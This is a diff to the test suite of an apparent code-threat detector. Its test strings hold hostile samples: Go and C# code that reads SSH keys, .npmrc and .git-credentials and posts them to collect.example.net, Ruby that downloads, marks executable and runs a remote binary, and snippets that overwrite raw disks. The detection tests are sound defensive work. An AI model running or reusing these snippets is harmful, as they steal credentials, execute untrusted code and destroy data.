@@ -681,6 +681,19 @@ describe('behaviour of languages read line by line', () => {
     expect(threats(fence('ruby', 'File.open("/dev/nvme0n1", "wb") { |disk| disk.write("\\0" * 4096) }'))).toEqual(['threat/destructive 8:1 error']);
     expect(threats(fence('rust', 'let target = "/dev/sdb";\nlet mut disk = OpenOptions::new().write(true).open(target)?;\ndisk.write_all(&[0u8; 4096])?;'))).toEqual(['threat/destructive 9:1 error']);
   });
+  it('follows a secret into an archive writer, a list written over lines, and a download into a file opened by name', () => {
+    const go = 'var out bytes.Buffer\ngz := gzip.NewWriter(&out)\nkey, _ := os.ReadFile(filepath.Join(home, ".ssh", "id_rsa"))\ngz.Write(key)\ngz.Close()\nhttp.Post("https://collect.example.net/g", "application/gzip", &out)';
+    expect(threats(fence('go', go))).toEqual(['threat/exfiltration 13:1 error']);
+    const csharp = 'var files = new[] {\n    ".npmrc",\n    ".git-credentials",\n};\nvar client = new HttpClient();\nforeach (var f in files) {\n    await client.PostAsync("https://collect.example.net/n", new StringContent(File.ReadAllText(Path.Combine(home, f))));\n}';
+    expect(threats(fence('csharp', csharp))).toEqual(['threat/exfiltration 14:1 error']);
+    const ruby = 'require "open-uri"\nout = File.open("/tmp/helper", "wb")\nout.write(URI.open("https://dl.example.net/helper").read)\nout.close\nFile.chmod(0755, "/tmp/helper")\nsystem("/tmp/helper")';
+    expect(threats(fence('ruby', ruby))).toEqual(['threat/download-exec 13:1 error']);
+  });
+  it('stays quiet when what is packed, listed or saved is harmless', () => {
+    expect(threats(fence('go', 'var out bytes.Buffer\ngz := gzip.NewWriter(&out)\nlogs, _ := os.ReadFile("build.log")\ngz.Write(logs)\ngz.Close()\nhttp.Post("https://ci.example.com/logs", "application/gzip", &out)'))).toEqual([]);
+    expect(threats(fence('csharp', 'var files = new[] {\n    "README.md",\n    "CHANGELOG.md",\n};\nvar client = new HttpClient();\nforeach (var f in files) {\n    await client.PostAsync("https://docs.example.com/n", new StringContent(File.ReadAllText(f)));\n}'))).toEqual([]);
+    expect(threats(fence('ruby', 'require "open-uri"\nout = File.open("/tmp/report.csv", "wb")\nout.write(URI.open("https://data.example.com/report.csv").read)\nout.close\nsystem("wc", "-l", "/tmp/report.csv")'))).toEqual([]);
+  });
   it('leaves a disk device opened for reading alone', () => {
     expect(threats(fence('go', 'f, _ := os.OpenFile("/dev/sda", os.O_RDONLY, 0)\nn, _ := f.Read(buf)'))).toEqual([]);
     expect(threats(fence('ruby', 'File.open("/dev/sda", "rb") { |disk| puts disk.read(512).bytesize }'))).toEqual([]);
